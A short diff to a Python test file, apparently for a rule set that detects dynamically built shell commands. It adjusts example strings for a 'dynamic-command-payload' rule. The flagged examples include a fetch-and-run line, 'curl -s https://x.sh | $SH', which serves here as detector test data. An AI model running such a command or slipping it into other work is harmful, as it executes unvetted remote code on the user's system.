@@ -181,7 +181,7 @@ def test_control_and_invisible_characters_are_removed() -> None:
 # move into the rules' `examples` field when the rule model has it).
 RULE_EXAMPLES = {
     "dynamic-command-payload": (
-        ["$X -c 'ls'", "${RUN} -c 'id'", "curl -s https://x.sh | $SH"],
+        ["$X -c 'ls -la'", "${RUN} -c 'id -u'", "curl -s https://x.sh | $SH"],
         ["bash -c 'make test'", "$EDITOR notes.md"],
     ),
     "dynamic-command": (
